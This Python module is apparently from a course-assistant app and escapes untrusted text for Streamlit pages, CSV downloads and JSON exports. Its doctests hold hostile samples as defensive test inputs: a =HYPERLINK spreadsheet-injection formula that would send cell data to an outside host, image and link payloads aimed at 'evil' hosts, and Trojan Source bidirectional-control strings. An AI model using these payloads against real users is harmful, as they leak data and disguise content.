"""Pure functions that turn answers (agent/records.py) into Markdown for the pages (no streamlit here).

Every string from a file, a question or a model is untrusted: it reaches a page only through
:func:`md_escape`, which makes it literal text in Streamlit Markdown — no HTML tags, no images
(remote or not), no links, no ``:color[...]`` directives, no LaTeX, no headings or lists.
Passage and answer text goes through :func:`md_text` instead: the same, except math in ``$...$`` that
ui/tex.py's allowlist accepts, which KaTeX renders (the notes' formulas). A block the agent fenced in an
answer (a demo's code and output: :func:`with_code_blocks`) is a Markdown code block, which shows its
text literally, in a fence no run of backticks in it can close.

>>> link_markers("温度控制随机性 [1][2]。", "m0")
'温度控制随机性 [[1]](#m0-src-1)[[2]](#m0-src-2)。'
>>> print(md_escape('<div style="position:fixed">![x](x.png)</div>'))
&lt;div style\\="position\\:fixed"&gt;\\!&#91;x&#93;\\(x\\.png\\)&lt;/div&gt;
>>> "http://evil" in md_escape("http://evil.example")  # bare URLs are not linked either
False
"""

from __future__ import annotations

import json
import re

from agent.compose import fenced
from agent.prompts import phrase
from agent.records import Answer
from common.text import CODE_SPAN, FENCED_BLOCK, HIDDEN_CHARACTERS, MATH_SPAN
from ui.tex import safe_tex, span_tex, streamlit_finds_math

VERDICT_BADGE = {"supported": ":green[**supported**]", "weak": ":orange[**weak**]", "unsupported": ":red[**unsupported**]"}


_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~:$^=])")
_INDENT = re.compile(r"^[ \t]+")
# GFM links bare URLs and e-mail addresses even when escaped; Streamlit's icon and emoji plugins
# read ":material/x:", ":streamlit:", ":fire:" through escapes; its typography turns "->", "<=",
# "--" into arrows and dashes: a zero-width space breaks each of them and shows nothing
_BREAK_AFTER = re.compile(r"(?i:www)(?=\.)|:/(?=/)|:(?=[A-Za-z0-9_/+\-]+:)|-(?=[->])|<(?=[=-])|>(?==)|=(?=>)|~(?==)")
_BRACKET_ENTITY = {"[": "&#91;", "]": "&#93;"}  # entities, not escapes: Streamlit's stream completion reads raw "["
_MARKER = re.compile(r"\[(\d{1,3})\]")
_ZWSP = "&#8203;"  # a zero-width space, as an entity: keeps a formula's dollars from touching a dollar or digit
# the bidirectional marks, embeddings, overrides and isolates: "温度参数\u202eevil.exe\u202c" showed as
# "温度参数exe.live", right-to-left marks around "15-03" show "03-15"
_BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# what code shows written out: those, and the invisible characters ("admin\u200b" is not "admin"; U+3164 is a name)
_HIDDEN_IN_CODE = re.compile(f"[{HIDDEN_CHARACTERS}\u3164]")


def visible_controls(code: str) -> str:
    """Code or program output as a page shows it verbatim (a code block, ``st.code``, ``st.text``): each
    bidirectional control and invisible character written out, so that what is shown is what runs (a
    "Trojan Source" line reads as one thing and runs as another).

    >>> visible_controls("s = 'user\\u202e \\u2066# admin\\u2069'; role = 'admin\\u200b'")
    "s = 'user<U+202E> <U+2066># admin<U+2069>'; role = 'admin<U+200B>'"
    """
    return _HIDDEN_IN_CODE.sub(lambda m: f"<U+{ord(m.group(0)):04X}>", code)


def md_escape(text: str, line_breaks: bool = True, at_line_start: bool = True) -> str:
    """``text`` as literal Markdown: HTML characters as entities, every Markdown sign backslash-escaped
    (brackets as entities), a zero-width space into what GFM or Streamlit would read through escapes
    (bare URLs and e-mail addresses, ``:icon:`` and ``:emoji:`` names, ``->``, ``<=``, ``~=`` typography);
    bidirectional controls are dropped (they reorder what is shown: "exe.live" for "evil.exe").

    Newlines become hard line breaks (or spaces with ``line_breaks=False``, for one-line labels), and
    a line's indentation no-break spaces (``at_line_start=False``: ``text`` goes on a line already begun).

    >>> print(md_escape("1. **bold** :red[x] $x$ -> :fire: 10:30").replace("\\u200b", "·"))  # (· a zero-width space)
    1\\. \\*\\*bold\\*\\* \\:red&#91;x&#93; \\$x\\$ \\-·&gt; \\:·fire\\: 10\\:30
    >>> md_escape("a\\n\\n  b")  # indentation cannot start a code block
    'a  \\n  \\n&#160;&#160;b'
    >>> md_escape("温度参数\\u202eevil\\u202c"), md_escape("due \\u200f15\\u200f-\\u200f03")
    ('温度参数evil', 'due 15\\\\-03')
    """
    text = _BREAK_AFTER.sub(lambda m: m.group(0) + "\u200b", _BIDI.sub("", str(text)).replace("@", "\u200b@\u200b"))
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = _MD_SPECIAL.sub(lambda m: _BRACKET_ENTITY.get(m.group(1), "\\" + m.group(1)), text)
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    if not line_breaks:
        return " ".join(" ".join(lines).split())
    # a line's indentation as no-break spaces: four leading spaces after a blank line would start a code block
    indent = lambda line: _INDENT.sub(lambda m: "&#160;" * len(m.group(0).expandtabs(4)), line)
    return "  \n".join(indent(line) if i or at_line_start else line for i, line in enumerate(lines))


def streamed(pieces: list[str]) -> str:
    r"""What a streaming answer shows: its pieces (a Replace event starts a new one) under rules, each
    escaped as a whole (:func:`md_text`). Escaped piece by piece, "www" then ".evil.com/login" joined
    into a live link.

    >>> "\u200b" in streamed(["Visit www" + ".evil.com/login"]), streamed(["a", "", "b"])
    (True, 'a\n\n---\n\nb')
    """
    return "\n\n---\n\n".join(md_text(piece) for piece in pieces if piece)


# The notes' "**word**" on one line: the pair opens at a line's start, after a space, a CJK character or an
# opening bracket or quote, never after a letter, digit or closing bracket ("x**2", "(a+b)**2", "w**(-1)"),
# and not before a space ("a ** b"); it closes after a non-space, where no letter or digit follows
_BOLD = re.compile(r"(?<![A-Za-z0-9)\]}*\\_`])\*\*(?![\s*])([^\n*`]+?)(?<=[^\s\\])\*\*(?![A-Za-z0-9*])")


def unbold(text: str) -> str:
    r"""``text`` without the notes' ``**bold**`` asterisks (a quoted "**早期作业**（20%）" showed them),
    outside `code`. Taken out of the raw text, before :func:`md_escape`, so that its breaks ("www" +
    "." …) are made in what is shown: dropped from the escaped text, "**www**.evil.example" became a live
    link. Dropped, not rendered: untrusted text sets no formatting on a page.

    >>> unbold("1. **早期作业**（20%）和（**项目**）, **[x](http://e)** 与 `a**b**c`")
    '1. 早期作业（20%）和（项目）, [x](http://e) 与 `a**b**c`'
    >>> unbold("x**2 + y**2, (a+b)**2 + (c-d)**(e), w**(-1), (x)**0.5, f(**kw), a ** b, **open, ***a***")
    'x**2 + y**2, (a+b)**2 + (c-d)**(e), w**(-1), (x)**0.5, f(**kw), a ** b, **open, ***a***'
    """
    if "**" not in text:
        return text
    out, last = [], 0
    for m in CODE_SPAN.finditer(text):
        out += [_BOLD.sub(r"\1", text[last:m.start()]), m.group(0)]
        last = m.end()
    return "".join(out) + _BOLD.sub(r"\1", text[last:])


def md_text(text: str, line_breaks: bool = True, at_line_start: bool = True) -> str:
    r"""Passage or answer text as Markdown: :func:`md_escape`, but each ``$...$`` / ``$$...$$`` whose TeX
    :func:`ui.tex.safe_tex` accepts is kept as inline math (KaTeX renders it), between zero-width
    spaces so that it touches no other dollar or digit; other math stays text. Should Streamlit's
    check not find the math (:func:`ui.tex.streamlit_finds_math`), all of it is escaped text. The notes'
    ``**bold**`` loses its asterisks (:func:`unbold`, outside formulas).

    >>> print(md_text("熵 $H(p) = \\sum_x p(x)$，$\\rule{9em}{9em}$"))
    熵 &#8203;$H(p) = \sum_x p(x)$&#8203;，\$\\rule\{9em\}\{9em\}\$
    >>> md_text("价格$5，公式$x^2$。")  # the refused "$5，公式$" leaves the formula its dollar
    '价格\\$5，公式&#8203;$x^2$&#8203;。'
    """
    text = str(text)
    out, last, pos = [], 0, 0
    while (m := MATH_SPAN.search(text, pos)) is not None:
        tex = safe_tex(span_tex(m))
        if tex is None:
            pos = m.start() + 1  # this dollar is text; the next one may open an accepted span
            continue
        out += [md_escape(unbold(text[last:m.start()]), line_breaks, at_line_start if not out else False),
                f"{_ZWSP}${tex}${_ZWSP}"]
        last = pos = m.end()
    if not out:
        return md_escape(unbold(text), line_breaks, at_line_start)
    out.append(md_escape(unbold(text[last:]), line_breaks, False))
    markdown = "".join(out)
    found = streamlit_finds_math(markdown) and streamlit_finds_math(markdown, streaming=True)
    return markdown if found else md_escape(unbold(text), line_breaks, at_line_start)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def table_safe(rows: list[dict]) -> list[dict]:
    """Rows for a table a TA may download as CSV (``st.dataframe``'s download, the Citation check's):
    a text cell that a spreadsheet would run as a formula (``=HYPERLINK("http://…?"&B2)``, starting
    with = + - @, a tab or a return) gets a leading apostrophe, the OWASP advice, so it stays text.

    A bidirectional control is written out (``<U+202E>``), as :func:`visible_controls` writes it in code:
    a student's question holding one was shown reordered in the Review queue ("exe.live" for "evil.exe"),
    and a TA reviewing it should see that it holds one, not have it dropped.

    >>> table_safe([{"q": '=HYPERLINK("http://x/?"&B2)', "n": -1, "c": "-> ok", "t": "什么是熵"}])
    [{'q': '\\'=HYPERLINK("http://x/?"&B2)', 'n': -1, 'c': "'-> ok", 't': '什么是熵'}]
    >>> table_safe([{"q": "run \u202eexe.live", "c": "\u2066=1+1"}])
    [{'q': 'run <U+202E>exe.live', 'c': '<U+2066>=1+1'}]
    """
    return [{k: _cell(v) for k, v in row.items()} for row in rows]


def _cell(value):
    """A table cell as :func:`table_safe` shows it."""
    if not isinstance(value, str):
        return value
    value = _BIDI.sub(lambda m: f"<U+{ord(m.group(0)):04X}>", value)
    return "'" + value if value.startswith(_FORMULA_START) else value


# a fenced block on lines of its own, as agent/compose.py writes the code an answer shows or ran and its output
_PYTHON_TAGS = {"python", "py", "python3", "pycon"}


def with_code_blocks(text: str, prose, code: bool = True) -> str:
    """``text`` with its fenced blocks (common.text.FENCED_BLOCK) as code blocks (agent.compose.fenced; left
    out with ``code=False``: the page shows them apart) and the rest through ``prose``. Escaped as prose, a code
    answer showed its fences as text and its ``xs[1]`` as a link to source 1 (a tester's finding).

    >>> with_code_blocks("Ran:\\n```python\\nprint(xs[1])\\n```\\nok [1]", lambda t: t.upper())
    'RAN:\\n\\n```python\\nprint(xs[1])\\n```\\n\\nOK [1]'
    >>> with_code_blocks("Ran:\\n```python\\nprint(xs[1])\\n```", str.upper, code=False), with_code_blocks("a [1]", str.upper)
    ('RAN:', 'A [1]')
    """
    parts, last = [], 0
    for m in FENCED_BLOCK.finditer(text):
        if text[last:m.start()].strip():
            parts.append(prose(text[last:m.start()].strip("\n")))
        if code:
            # literal: nothing in it is live. Only a Python tag is kept: a tag can make a Markdown stack treat
            # the block apart ("```math" is a formula with remark-math and rehype-katex, past ui/tex.py's
            # allowlist; Streamlit 2026-12 draws it as code, checked in Chromium: kept so if that changes)
            parts.append(fenced(visible_controls(m.group(3)), "python" if m.group(2).lower() in _PYTHON_TAGS else ""))
        last = m.end()
    if not last:  # no block
        return prose(text)
    if text[last:].strip():
        parts.append(prose(text[last:].strip("\n")))
    return "\n\n".join(parts)


def link_markers(answer: str, anchor_prefix: str, code: bool | None = None) -> str:
    """The answer as :func:`md_text` (formulas rendered, the rest escaped), each [n] a link to the source n listed under it.
    ``code``: for an answer the agent composed around code (mode "code", agent/compose.py), its fenced
    blocks as code blocks (True) or left out (False: a run's, shown in its box; :func:`with_code_blocks`).
    Any other answer's fences are text: a quoted file's title or a model's sentence could hold one.

    A leading "- " stays a bullet (the quoted answers are lists).
    """
    if code is None:
        return _linked(answer, anchor_prefix)
    return with_code_blocks(answer, lambda text: _linked(text, anchor_prefix), code)


def _linked(answer: str, anchor_prefix: str) -> str:
    lines = []
    for line in str(answer).replace("\r\n", "\n").split("\n"):
        # (an empty bullet stays text: a bare "- " under a line would make that line a heading)
        bullet = line.startswith("- ") and bool(line[2:].strip())
        body = unbold(line[2:] if bullet else line)  # (a pair around a citation too: "**粗 [1]**")
        parts, last = [], 0
        for m in _MARKER.finditer(body):
            parts.append(md_text(body[last:m.start()], at_line_start=not parts))
            parts.append(f"[[{m.group(1)}]](#{anchor_prefix}-src-{m.group(1)})")
            last = m.end()
        parts.append(md_text(body[last:], at_line_start=not parts))
        lines.append(("- " if bullet else "") + "".join(parts))
    return "  \n".join(lines)


def sources(answer: Answer) -> list[dict]:
    """One entry per cited passage number: passage, verdict (worst over its uses), best score, and the
    passage as HTML with its supporting sentence (that of its best-scoring citation) marked."""
    by_n: dict[int, dict] = {}
    order = {"unsupported": 0, "weak": 1, "supported": 2}
    for c in answer.citations:
        entry = by_n.setdefault(c.n, {"n": c.n, "verdict": c.verdict, "score": c.score, "sentence": None, "best": -1.0})
        if order[c.verdict] < order[entry["verdict"]]:
            entry["verdict"] = c.verdict
        entry["score"] = max(entry["score"], c.score)
        if c.supporting_sentence and c.score > entry["best"]:
            entry["sentence"], entry["best"] = c.supporting_sentence, c.score
    out = []
    for n in sorted(by_n):
        p = answer.passage(n)
        if p is None:
            continue
        entry = by_n[n]
        out.append({"n": n, "verdict": entry["verdict"], "score": entry["score"], "title": p.title,
                    "heading": p.heading, "page": p.page, "source": p.source, "chunk_id": p.chunk_id, "text": p.text,
                    "sentence": entry["sentence"], "flags": list(p.flags)})
    return out


def conversation_markdown(messages: list) -> str:
    """The chat (ui/conversations.py ``ChatMessage`` list) as Markdown, with each answer's sources; every
    string from a student, a file or a model escaped as on the page (:func:`md_text`, :func:`md_escape`),
    so that a Markdown viewer opening the file shows it as text (no image loads, no link, no HTML).

    >>> from ui.conversations import ChatMessage
    >>> print(conversation_markdown([ChatMessage(role="user", content="![x](http://evil/t.png) $T$", id="q")]))
    # CourseTA conversation
    <BLANKLINE>
    **Student:** \\!&#91;x&#93;\\(http\\:/\u200b/evil/t\\.png\\) &#8203;$T$&#8203;
    <BLANKLINE>
    """
    lines = ["# CourseTA conversation", ""]
    label = lambda text: md_escape(text, line_breaks=False)
    for m in messages:
        if m.role == "user":
            lines += [f"**Student:** {md_text(m.content)}", ""]
            continue
        lines += [f"**CourseTA:** {md_text(m.answer.answer if m.answer else m.content)}", ""]
        for n, title, text in m.answer.untranslated_lines() if m.answer else []:
            lines += [f"*Not translated (as in the notes), passage \\[{n}\\] {label(title)}:* {md_text(text)}", ""]
        for s in sources(m.answer) if m.answer else []:
            page = f", p. {int(s['page'])}" if s["page"] else ""
            lines.append(f"- \\[{int(s['n'])}\\] {label(s['title'])}{page} — {label(s['heading'] or '')} "
                         f"({s['verdict']}, {s['score']:.2f}) chunk {label(s['chunk_id'])}")
        if m.feedback is not None:
            lines.append(f"- feedback: {'👍' if m.feedback else '👎'} {label(m.comment or '')}")
        lines.append("")
    return "\n".join(lines)


def conversation_json(messages: list) -> str:
    """The chat as JSON: each answer as the CLI's ``--json`` record (figures counted, not included);
    a model's failure as the one sentence the page shows students (its details may name the model
    server's address: TAs read them in the review queue)."""
    out = []
    for m in messages:
        data = m.model_dump(mode="json", exclude={"answer"})
        if m.answer is not None:
            data["answer"] = m.answer.public_dict()
            if m.answer.error:
                data["answer"]["error"] = phrase("model_failed_note", m.answer.language)
        out.append(data)
    # a bidirectional control as its JSON escape ("\\u202e"): the same string once read, but a file opened in an
    # editor shows the conversation in its order (in JSON they occur only inside strings)
    return _BIDI.sub(lambda m: f"\\u{ord(m.group(0)):04x}", json.dumps(out, ensure_ascii=False, indent=1))


def _short(value, width: int = 60) -> str:
    text = " ".join(str(value).split())
    return md_escape(text if len(text) <= width else text[: width - 1] + "…", line_breaks=False)


def trace_steps(answer: Answer) -> list[str]:
    """The answer's steps, in order, for the office-hours trace: tool calls, writing, citation check.

    >>> from agent.records import ToolCall, Verification
    >>> print("\\n".join(trace_steps(Answer(question="q", query="q", answer="a", language="zh", strategy="route", mode="generate",
    ...                    tool_calls=[ToolCall(name="search_course", args={"query": "温度参数", "k": 5},
    ...                                         summary="5 passages", duration_s=0.031)],
    ...                    timings={"first_token_s": 1.71, "generation_s": 9.2},
    ...                    verification=Verification(precision=1.0, recall=0.5)))))
    **search\\_course**\\(query=温度参数, k=5\\) → 5 passages · 0.03 s
    wrote the answer: first token after 1.71 s, done in 9.20 s
    checked the citations: precision 1.00 · recall 0.50
    """
    steps = []
    for call in answer.tool_calls:
        args = ", ".join(
            f"{md_escape(k, line_breaks=False)}={_short(v) if k != 'code' else _short(f'<{len(str(v).splitlines())} lines>')}" for k, v in call.args.items()
        )
        steps.append(f"**{md_escape(call.name)}**\\({args}\\) → {_short(call.summary)} · {call.duration_s:.2f} s")
    for run in answer.code_runs:
        steps.append(f"code demo isolation: {', '.join(run.isolation) or 'none reported'}")
    timings = answer.timings
    mode = answer.mode
    if mode == "generate" and "generation_s" in timings:
        first = timings.get("first_token_s")
        start = f"first token after {first:.2f} s, " if first is not None else ""
        steps.append(f"wrote the answer: {start}done in {timings['generation_s']:.2f} s")
    elif mode == "refusal" and answer.number_not_found:
        steps.append("declined: no top passage sentence near the question holds the number it asks for")
    elif mode in ("extract", "refusal", "homework"):
        steps.append({"extract": "quoted the best supporting sentences",
                      "refusal": "declined: the course materials do not cover the question",
                      "homework": "homework integrity: pointed to the readings instead of a solution"}[mode])
    if answer.verification is not None:
        ver = answer.verification
        steps.append(f"checked the citations: precision {ver.precision:.2f} · recall {ver.recall:.2f}")
    return steps
